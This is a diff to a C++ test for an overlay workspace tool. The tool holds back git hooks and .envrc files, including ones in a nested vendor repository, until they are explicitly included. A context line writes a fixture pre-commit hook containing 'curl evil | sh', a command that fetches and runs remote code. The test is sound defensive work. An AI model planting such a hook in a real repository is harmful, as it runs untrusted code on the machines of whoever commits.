@@ -260,11 +260,19 @@ TEST_F(OverlayChangesTest, GitAndControlFilesAreHeldBackUntilAskedFor) {
   write(upper() / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
   write(upper() / ".envrc", "export X=1\n");
   write(upper() / "src.c", "int x;\n");
+  write(lower() / "vendor" / "lib" / ".git" / "HEAD", "ref: refs/heads/main\n");
+  write(upper() / "vendor" / "lib" / ".git" / "hooks" / "post-merge", "#!/bin/sh\n", 0755);  // a nested repository
   auto set = changes();
   EXPECT_NE(workspace::summary_text(set, {}).find("[held back: under .git; `apply --include-git` takes it]"),
             std::string::npos);
   auto report = apply();
-  EXPECT_EQ(report.held_back.size(), 3u);  // .git/hooks, .git/hooks/pre-commit, .envrc
+  EXPECT_EQ(report.held_back.size(), 5u);  // .git/hooks(/pre-commit), .envrc, vendor/lib/.git/hooks(/post-merge)
+  EXPECT_FALSE(fs::exists(lower() / "vendor" / "lib" / ".git" / "hooks"));
+  // What was taken leaves the change layer (so it cannot hide later host edits); the rest stays.
+  workspace::settle_after_apply(layout_, report);
+  EXPECT_FALSE(fs::exists(upper() / "src.c"));
+  EXPECT_TRUE(fs::exists(upper() / ".envrc"));
+  EXPECT_EQ(render(changes()), "A .envrc\nA .git/hooks\nA .git/hooks/pre-commit\nA vendor/lib/.git/hooks\nA vendor/lib/.git/hooks/post-merge\n");
   EXPECT_FALSE(fs::exists(lower() / ".git" / "hooks" / "pre-commit"));
   EXPECT_FALSE(fs::exists(lower() / ".envrc"));
   EXPECT_EQ(read(lower() / "src.c"), "int x;\n");
